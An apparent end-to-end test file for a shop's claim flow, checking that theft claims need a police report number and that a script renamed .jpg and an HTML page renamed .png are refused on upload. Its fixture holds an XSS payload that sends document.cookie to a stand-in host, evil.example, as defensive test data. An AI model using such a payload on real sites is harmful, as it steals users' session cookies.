// Issue 5, journeys 6 and 7: a theft needs its police report number (the step asks for it, and a
// review that reaches the server without it answers 200010); and a script renamed .jpg is refused
// by the server in the browser, leaving no evidence behind.
import type { Page } from 'playwright-core';
import { beforeAll, describe, expect, test } from 'vitest';
import { expectAccessible } from './support/accessibility';
import { useBrowser, VIEWPORTS } from './support/browser';
import {
  continueTo,
  continueToReview,
  expectClaimStatus,
  fileList,
  pickFiles,
  STEP,
  signInTo,
  startReport,
  submitClaim,
  waitForStep,
} from './support/claim-flow';
import { createShop, deliveredOrder, putOrder } from './support/shop';

const browser = useBrowser();
const SHOP = 'e2e-theft-uploads';

const SPEAKER = { id: 'li-speaker', title: 'Bookshelf Speaker', quantity: 2, price: 11900 };
const MUG = { id: 'li-mug', title: 'Stoneware Mug', quantity: 2, price: 1800 };

/** Spec 8's 200010, in English (packages/domain error-messages). */
const THEFT_REPORT_REQUIRED =
  'To report a theft, please provide the police or incident report number and evidence, such as photos or the delivery record.';

/** A shell script and an HTML page, named and typed as photos: the server reads what they are. */
const HOSTILE_FILES = [
  {
    name: 'holiday.jpg',
    mimeType: 'image/jpeg',
    buffer: Buffer.from("<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n"),
  },
  {
    name: 'receipt.png',
    mimeType: 'image/png',
    buffer: Buffer.from('<!doctype html><html><body><script>alert(document.domain)</script></body></html>\n'),
  },
];

function account(journey: 'theft' | 'hostile', viewport: { name: string }) {
  const index = VIEWPORTS.findIndex((candidate) => candidate.name === viewport.name);
  return {
    order: `#9${index}0${journey === 'theft' ? 1 : 2}`,
    email: `${journey}-${viewport.name}@example.com`,
  };
}

beforeAll(async () => {
  const shop = await createShop(SHOP, 'Theft and Upload Journeys');
  await Promise.all(
    VIEWPORTS.flatMap((viewport) => [
      putOrder(
        shop,
        account('theft', viewport).order,
        deliveredOrder(account('theft', viewport).email, [SPEAKER]),
      ),
      putOrder(
        shop,
        account('hostile', viewport).order,
        deliveredOrder(account('hostile', viewport).email, [MUG]),
      ),
    ]),
  );
});

/** The police report field of issue-details. */
function policeReport(page: Page) {
  return page.getByRole('textbox', { name: 'Police report number' });
}

describe.each(VIEWPORTS)('theft and hostile uploads on $name', (viewport) => {
  test('a theft asks for the police report number; without it the review answers 200010', async () => {
    const { page } = await browser.open(viewport);
    const { order, email } = account('theft', viewport);
    await signInTo(page, SHOP, order, email);
    await startReport(page, { issue: 'Stolen', items: [['Bookshelf Speaker', 2]] });

    // The step requires it: Continue without it stays here with the field's message.
    await expect(policeReport(page).getAttribute('aria-required')).resolves.toBe('true');
    await page.getByRole('button', { name: 'Continue', exact: true }).click();
    await page.getByText('Please enter the police report number.', { exact: true }).waitFor();
    await expect(policeReport(page).getAttribute('aria-invalid')).resolves.toBe('true');
    await waitForStep(page, STEP.details);
    await expectAccessible(page);

    await policeReport(page).fill('PR-2026-004417');
    await continueToReview(page, { description: 'The tracking says delivered; the porch was empty.' });
    await page.getByRole('definition').filter({ hasText: 'PR-2026-004417' }).waitFor();

    // The shopper changes the details, clears the number and goes back with the browser: the
    // review is asked without it, and the server's 200010 shows with the way to fix it.
    await page.getByRole('link', { name: /^Change\s*: Tell us what happened$/ }).click();
    await waitForStep(page, STEP.details);
    await policeReport(page).fill('');
    const reviewAnswer = page.waitForResponse((response) => response.url().endsWith('/claim-apply-review'));
    await page.goBack();
    await waitForStep(page, STEP.review);
    await expect((await reviewAnswer).json()).resolves.toMatchObject({ code: 200010 });
    const refusal = page.getByRole('alert').filter({ hasText: THEFT_REPORT_REQUIRED });
    await refusal.waitFor();
    await expect(page.getByRole('button', { name: 'Submit claim' }).isDisabled()).resolves.toBe(true);
    await expectAccessible(page);

    await refusal.getByRole('link', { name: 'Add the police report number', exact: true }).click();
    await waitForStep(page, STEP.details);
    await policeReport(page).fill('PR-2026-004417');
    await continueTo(page, STEP.upload);
    await continueTo(page, STEP.pack);
    await continueTo(page, STEP.comments);
    await continueTo(page, STEP.payment);
    await continueTo(page, STEP.review);
    await page.getByRole('heading', { level: 2, name: 'Amount' }).waitFor();
    await expect(page.getByRole('alert').count()).resolves.toBe(0);
    await submitClaim(page);
    await expectClaimStatus(page, 'Under review');
    await page.getByRole('definition').filter({ hasText: 'PR-2026-004417' }).waitFor();
    await expectAccessible(page);
  });

  test('a script renamed .jpg and a page renamed .png are refused with the server’s message; no evidence is kept', async () => {
    const { page, errors } = await browser.open(viewport);
    errors.allow(/status of 415/, 'verify-attachment answers 415 for a file that is not a picture or video');
    const { order, email } = account('hostile', viewport);
    await signInTo(page, SHOP, order, email);
    await startReport(page, { issue: 'Damaged', items: [['Stoneware Mug', 1]] });
    await continueTo(page, STEP.upload);

    // The uploader sends one file after the other; each answer is the server's refusal.
    const answers: { status: number; body: Promise<{ code: number; message: string }> }[] = [];
    page.on('response', (response) => {
      if (response.url().endsWith('/verify-attachment')) {
        answers.push({ status: response.status(), body: response.json() });
      }
    });
    await pickFiles(page, HOSTILE_FILES);
    await expect.poll(() => answers.length).toBe(HOSTILE_FILES.length);
    const messages = await Promise.all(
      answers.map(async (answer) => {
        expect(answer.status).toBe(415);
        const body = await answer.body;
        expect(body.code).toBe(100006);
        return body.message;
      }),
    );
    // Each file shows the server's own message, announced; none became a picture.
    for (const [index, file] of HOSTILE_FILES.entries()) {
      const entry = fileList(page).getByRole('listitem').filter({ hasText: file.name });
      await expect(entry.getByRole('alert').innerText()).resolves.toBe(messages[index]);
    }
    await expect(fileList(page).getByRole('img').count()).resolves.toBe(0);
    await expect(
      fileList(page)
        .getByRole('button', { name: /^Remove / })
        .count(),
    ).resolves.toBe(0);
    await expect(page.getByText('required: at least 1', { exact: true }).isVisible()).resolves.toBe(true);
    await expectAccessible(page);

    for (const file of HOSTILE_FILES) {
      await page.getByRole('button', { name: `Dismiss ${file.name}`, exact: true }).click();
    }
    await expect(fileList(page).count()).resolves.toBe(0);

    // Nothing reached the claim: the review (from the server) has no evidence and says it is missing.
    await continueTo(page, STEP.pack);
    await page.getByLabel('Condition of the package', { exact: true }).selectOption({ label: 'Damaged' });
    await continueTo(page, STEP.comments);
    await continueTo(page, STEP.payment);
    await continueTo(page, STEP.review);
    const evidence = page.getByRole('region', { name: 'Photos and videos' });
    await evidence.getByText('No photos or videos.', { exact: true }).waitFor();
    await evidence.getByText('Still missing: Photos of the damage.', { exact: false }).waitFor();
    await expectAccessible(page);
  });
});
